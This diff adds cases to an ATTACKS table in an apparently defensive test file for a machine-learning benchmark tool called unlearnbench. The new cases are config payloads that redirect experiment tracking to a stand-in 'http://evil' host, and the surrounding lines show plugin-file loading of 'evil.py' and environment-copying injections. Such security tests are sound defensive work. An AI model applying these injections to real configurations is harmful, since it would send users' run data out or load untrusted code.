@@ -48,6 +48,15 @@ CALL = "{_target_: unlearnbench.request.plugins.trust_file, path: FOLDER/evil.py
 DISCARD = "{_target_: unlearnbench.results.folder.discard, part: FOLDER/experiment}"
 
 ATTACKS = {
+    # where a run is sent
+    "a tracker's server": (preset('track: {mlflow: {uri: "http://evil"}}'), [*E, "track=mlflow"]),
+    "a tracker of its own": (
+        preset("track: {x: {_target_: unlearnbench.track.wandb.Wandb, mode: online, project: p, entity: e}}"), E,
+    ),
+    "a tracker's file": (over("override /track: [mlflow]", track__mlflow=(
+        "# @package track.mlflow\n_target_: unlearnbench.track.mlflow.Mlflow\nuri: sqlite:////there\nexperiment: e\n"
+    )), E),
+    "a tracker in a sweep": (swept('track.mlflow.uri: "http://evil"'), [*E, "track=mlflow"]),
     # the three of the issue, and their kin
     "env_set": (hydra('job: {env_set: {UNLEARNBENCH_PLUGIN_FILES: \'["FOLDER/evil.py"]\'}}'), E),
     "env_copy": (hydra("job: {env_copy: [HOME]}"), E),
